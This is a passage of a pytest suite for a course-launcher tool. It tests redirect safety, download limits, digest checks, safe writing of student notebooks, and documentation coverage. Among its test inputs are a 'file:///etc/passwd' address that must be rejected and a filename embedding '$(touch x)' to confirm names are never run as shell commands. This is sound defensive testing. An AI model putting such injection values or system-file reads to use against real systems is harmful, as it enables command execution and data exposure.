        handler.end_headers()

    return answer


def test_redirections_lead_to_https_only(web: Server, plain_web: Server, course: Path) -> None:
    url = web.put(FILES, "long/way/")
    web.odd["short"] = redirect(url)
    assert take(f"{web.url}short", True)[0] == "gpu2026"  # what lies beside it is found where it leads
    web.odd["moved"] = redirect(f"{web.url}one", 308)
    web.files["one"] = b"1"
    assert fetch(f"{web.url}moved", 100).content == b"1"
    web.odd["down"] = redirect(plain_web.put(FILES))
    web.odd["file"] = redirect(f"file://{course}")
    web.odd["round"] = redirect(f"{web.url}round")
    for path in ("down", "file", "round"):
        with pytest.raises(FetchFailed):
            take(f"{web.url}{path}#sha256={digest_of(course)}"[: None if path != "round" else -72], True)
    assert plain_web.asked == []


def drip(handler: BaseHTTPRequestHandler) -> None:
    handler.send_response(200)
    handler.end_headers()
    for _ in range(100):
        handler.wfile.write(b"#")
        handler.wfile.flush()
        time.sleep(0.05)


def cut(handler: BaseHTTPRequestHandler) -> None:
    handler.send_response(200)
    handler.send_header("Content-Length", "1000")
    handler.end_headers()
    handler.wfile.write(b'name = "half"\n')


def test_what_comes_is_bounded_in_size_and_in_time(web: Server) -> None:
    web.files["large"] = b"#" * 100_001
    with pytest.raises(FetchFailed, match="larger than"):
        fetch(f"{web.url}large", 100_000)
    web.odd["drip"] = drip
    began = time.monotonic()
    with pytest.raises(FetchFailed, match="did not come within"):
        fetch(f"{web.url}drip", 1000, within=0.5)
    assert time.monotonic() - began < 10
    web.odd["cut"] = cut
    with pytest.raises(FetchFailed):
        fetch(f"{web.url}cut", 10_000)


def test_a_course_with_all_its_files_is_bounded_in_time(web: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(courses, "WITHIN", 1.0)

    def slow(handler: BaseHTTPRequestHandler) -> None:
        time.sleep(0.3)
        handler.send_response(200)
        handler.end_headers()

    names = [f"{number}.ipynb" for number in range(20)]
    web.odd |= dict.fromkeys(names, slow)
    url = web.put({"course.toml": f'name = "x"\nnotebooks = {json.dumps(names)}\n'})
    began, view = time.monotonic(), View()
    with pytest.raises(FetchFailed) as caught:
        take_course(url, view, Answers(True))
    assert caught.value.what == f"{url}:2: {url} with all its files did not come within 1 s."
    assert time.monotonic() - began < 5  # all of them would take six
    assert "fetching 1.ipynb (2 of 20) from 127.0.0.1" in [e.text for e in view.events if isinstance(e, events.Asking)]


def test_a_page_about_a_file_is_told_apart(web: Server) -> None:
    web.files["page"] = b"<!DOCTYPE html><html></html>"
    with pytest.raises(ProfileError, match="shows a page"):
        take(f"{web.url}page", True)
    with pytest.raises(FetchFailed, match="could not be fetched") as caught:
        take(f"{web.url}nothing", True)
    assert "404" in caught.value.why


def test_a_mistake_at_an_address_is_told_with_its_line(web: Server) -> None:
    url = web.put({**FILES, "common.toml": COMMON + "gpu = 7\n"})
    with pytest.raises(ProfileError, match=re.escape(f"{web.url}common.toml:14: ")):
        take(url, True)
    url = web.put({"course.toml": 'name = "x"\nnotebooks = ["gone.ipynb"]\n'})
    with pytest.raises(FetchFailed) as caught:
        take(url, True)
    assert caught.value.what == f"{url}:2: {web.url}gone.ipynb could not be fetched."


@pytest.mark.parametrize(
    "word", ["ftp://a.example/c.toml", "file:///etc/passwd", "https://alice:secret@a.example/c.toml", "https:///c.toml",
             "https://a.example/c.toml#sha256=12", "https://a.example/c.toml#md5=1", "https://a.example/ c.toml"]
)  # fmt: skip
def test_an_address_that_is_none(word: str) -> None:
    with pytest.raises(UsageError) as caught:
        take(word, True)
    assert caught.value.mend


# --- the command line ----------------------------------------------------------------------------------------


def test_in_a_terminal_the_question_is_answered_and_the_launch_goes_on(web: Server, course: Path) -> None:
    child = pexpect.spawn(LAUNCHER[0], [*LAUNCHER[1:], "env", "list", "--course", web.put(FILES)],
                          encoding="utf-8", timeout=20, dimensions=(24, 80))  # fmt: skip
    child.expect("runs  conda activate tf-gpu; export X='\\$HOME'")
    child.expect(r"Take this course\? It decides what runs. \[yes/no\] ")
    child.sendline("yes")
    child.expect("The course gpu2026 .* is kept")
    child.expect("tf-mkl")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0


def test_every_command_takes_a_course_and_json_tells(web: Server, course: Path) -> None:
    url = web.put(FILES)
    done = subprocess.run([*LAUNCHER, "list", "--course", url, "--json"], capture_output=True, text=True)
    told = [json.loads(line) for line in done.stdout.splitlines()]
    assert (done.returncode, told[-1]["kind"]) == (6, "AnswerMissing")
    assert f"{url}#sha256={digest_of(course)}" in told[-1]["mend"]
    assert kept_courses() == []
    subprocess.run([*LAUNCHER, "env", "list", "--course", str(course)], capture_output=True, check=True)
    done = subprocess.run([*LAUNCHER, "course", "list", "--json"], capture_output=True, text=True, check=True)
    seen = json.loads(done.stdout)
    assert (seen["event"], seen["course"], seen["chosen"], seen["cluster"]) == ("kept_course", "gpu2026", True, "uni")
    shown = subprocess.run([*LAUNCHER, "course", "show", "gpu2026"], capture_output=True, text=True, check=True)
    assert "runs  conda activate tf-gpu" in shown.stdout
    subprocess.run([*LAUNCHER, "course", "forget", "gpu2026"], capture_output=True, check=True)
    assert kept_courses() == []


def test_a_dry_run_reads_a_course_and_keeps_nothing(web: Server, course: Path, configuration: Path) -> None:
    before = (configuration / "config.toml").read_bytes()
    for word in (str(course), web.put(FILES)):
        done = subprocess.run([*LAUNCHER, "--dry-run", "--course", word], capture_output=True, text=True)
        assert (done.returncode, "--account=edu26" in done.stdout, "tf-gpu" in done.stdout) == (0, True, True), done
        assert "is read for this run alone, and not kept" in done.stdout + done.stderr
        assert (kept_courses(), (configuration / "config.toml").read_bytes()) == ([], before)
    done = subprocess.run([*LAUNCHER, "--dry-run", "--course", f"{word}#sha256={'0' * 64}"], capture_output=True)
    assert done.returncode == DigestDiffers.exit_code


# --- notebooks -----------------------------------------------------------------------------------------------


def test_what_becomes_of_each_notebook() -> None:
    wanted = {"new": "2", "same": "2", "ours": "2", "theirs": "2", "unknown": "2", "odd": "2", "seen": "2"}
    there = {"new": "", "same": "2", "ours": "1", "theirs": "x", "unknown": "x", "odd": "odd", "seen": "x"}
    there |= {beside(name, "D"): "" for name in wanted}
    brought = {"same": "1", "ours": "1", "theirs": "1", "seen": "2"}
    moves, kept = decide(wanted, there, brought, "D")
    assert [(move.notebook, move.target, move.over) for move in moves] == [
        ("new", "new", ""),
        ("ours", "ours", "1"),
        ("theirs", "theirs.new-D", ""),
        ("unknown", "unknown.new-D", ""),
    ]
    assert kept == ["theirs", "unknown", "odd", "seen"]
    assert beside("week.2/a.b.ipynb", "D") == "week.2/a.b.new-D.ipynb"
    assert beside("week.2/README", "D") == "week.2/README.new-D"


@pytest.fixture
def student(tmp_path: Path) -> Callable[[], events.Event]:
    """Bring the kept course's notebooks into a student's home, and return what was told."""
    home = tmp_path / "home"
    home.mkdir()
    site = Site(str(home), "alice", "login", datetime.datetime(2026, 11, 24, 9, tzinfo=datetime.timezone.utc))

    def bring() -> events.Event:
        view = View()
        stage = types.SimpleNamespace(host=LocalHost(), site=site, view=view, clock=lambda: site.now)
        bring_notebooks(cast(Stage, stage), kept_course("gpu2026").course)
        return [event for event in view.events if not isinstance(event, events.Asking)][-1]

    return bring


def test_the_students_own_work_is_never_written_over(
    course: Path, tmp_path: Path, student: Callable[[], events.NotebooksBrought]
) -> None:
    take(course)
    folder = tmp_path / "home" / "gpu2026"
    assert student() == events.NotebooksBrought("~/gpu2026", ("one.ipynb", "week2/two.ipynb"), ())
    assert (folder / "week2/two.ipynb").read_text() == FILES["week2/two.ipynb"]
    assert [stat.S_IMODE(path.stat().st_mode) for path in (folder, folder / "one.ipynb")] == [0o700, 0o600]
    assert student() == events.NotebooksBrought("~/gpu2026", (), ())
    (folder / "one.ipynb").write_text("my own work")
    (folder / "mine.ipynb").write_text("mine as well")
    assert student() == events.NotebooksBrought("~/gpu2026", (), ("one.ipynb",))
    # new versions: the changed one gets it beside, once; the other is replaced
    write(course.parent, {"one.ipynb": "new one", "week2/two.ipynb": "new two"})
    take(course)
    beside_it = "one.new-2026-11-24.ipynb"
    assert student() == events.NotebooksBrought("~/gpu2026", (beside_it, "week2/two.ipynb"), ("one.ipynb",))
    (folder / beside_it).unlink()
    assert student() == events.NotebooksBrought("~/gpu2026", (), ("one.ipynb",))
    texts = {path.name: path.read_text() for path in folder.rglob("*.ipynb")}
    assert texts == {"one.ipynb": "my own work", "mine.ipynb": "mine as well", "two.ipynb": "new two"}
    (folder / "one.ipynb").unlink()  # how to begin afresh
    assert student() == events.NotebooksBrought("~/gpu2026", ("one.ipynb",), ())
    assert sorted(path.name for path in folder.iterdir()) == ["mine.ipynb", "one.ipynb", "week2"]


def test_a_notebook_that_was_there_before_is_the_students(
    course: Path, tmp_path: Path, student: Callable[[], events.NotebooksBrought]
) -> None:
    take(course)
    folder = tmp_path / "home" / "gpu2026"
    write(folder, {"one.ipynb": "from last year", "one.new-2026-11-24.ipynb": "also mine"})
    assert student() == events.NotebooksBrought("~/gpu2026", ("week2/two.ipynb",), ("one.ipynb",))
    assert (folder / "one.ipynb").read_text() == "from last year"
    assert (folder / "one.new-2026-11-24.ipynb").read_text() == "also mine"


def test_links_in_the_folder_lead_no_writing_elsewhere(
    course: Path, tmp_path: Path, student: Callable[[], events.NotebooksBrought]
) -> None:
    take(course)
    folder, elsewhere = tmp_path / "home" / "gpu2026", tmp_path / "elsewhere"
    folder.mkdir()
    elsewhere.mkdir()
    (elsewhere / "precious").write_text("precious")
    (folder / "one.ipynb").symlink_to(elsewhere / "precious")
    (folder / "week2").symlink_to(elsewhere)
    assert student() == events.NotebooksBrought("~/gpu2026", (), ("one.ipynb", "week2/two.ipynb"))
    assert [path.name for path in elsewhere.iterdir()] == ["precious"]
    assert (elsewhere / "precious").read_text() == "precious"
    (folder / "one.ipynb").unlink()
    (folder / "one.ipynb").symlink_to(elsewhere / "nowhere")
    student()
    assert not (elsewhere / "nowhere").exists()


def test_where_it_cannot_be_done_it_is_told_and_no_more(
    course: Path, tmp_path: Path, student: Callable[[], events.Noted]
) -> None:
    take(course)
    (tmp_path / "home" / "gpu2026").write_text("a file in the way")
    told = student()
    assert isinstance(told, events.Noted)
    assert "were not brought to ~/gpu2026" in told.text and "Not a directory" in told.text


def test_names_are_no_shells_words(
    course: Path, tmp_path: Path, student: Callable[[], events.NotebooksBrought]
) -> None:
    odd = "a $(touch x) 'b' \"c\" ü !e.ipynb"
    write(course.parent, {odd: "odd", "course.toml": f'name = "gpu2026"\nnotebooks = [{json.dumps(odd)}]\n'})
    take(course)
    assert student() == events.NotebooksBrought("~/gpu2026", (odd,), ())
    assert [path.name for path in (tmp_path / "home" / "gpu2026").iterdir()] == [odd]


# --- the documentation ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("heading", "model"), [("The keys of a course", CourseProfile), ("`[[reservations]]`", Reservation)]
)
def test_every_key_is_documented(heading: str, model: type[CourseProfile | Reservation]) -> None:
    section = DOCUMENTED.partition(f"## {heading}")[2].partition("\n## ")[0]
    assert re.findall(r"^\| `(\w+)` \| .+ \| .+ \|$", section, re.M) == list(model.model_fields)


def test_the_documented_example_is_a_course(tmp_path: Path) -> None:
    example = re.search(r"```toml\n(.*?)```", DOCUMENTED, re.S)
    assert example
    path = write(tmp_path / "t", {"course.toml": example[1], "beginner.ipynb": "{}", "lab3.ipynb": "{}"})
    take(path)
    plan = plan_on("2026-11-24", words=("tf-mkl",), flags={"gpus": "0", "ntasks": "4"})
    assert plan.request.flags["reservation"] == "gpulab-1"
    assert plan.environment.conda == "tf-mkl"
    assert set(courses.kept_course("gpulab2026").course.environments) == {"tf-gpu", "tf-mkl", "tf-pip"}


def test_errors_of_a_course_are_errors_of_ours() -> None:
    for word in ("nothing", "./nothing.toml", "https://127.0.0.1:1/c.toml"):
        with pytest.raises(LauncherError) as caught:
            take(word, True)
        assert caught.value.mend
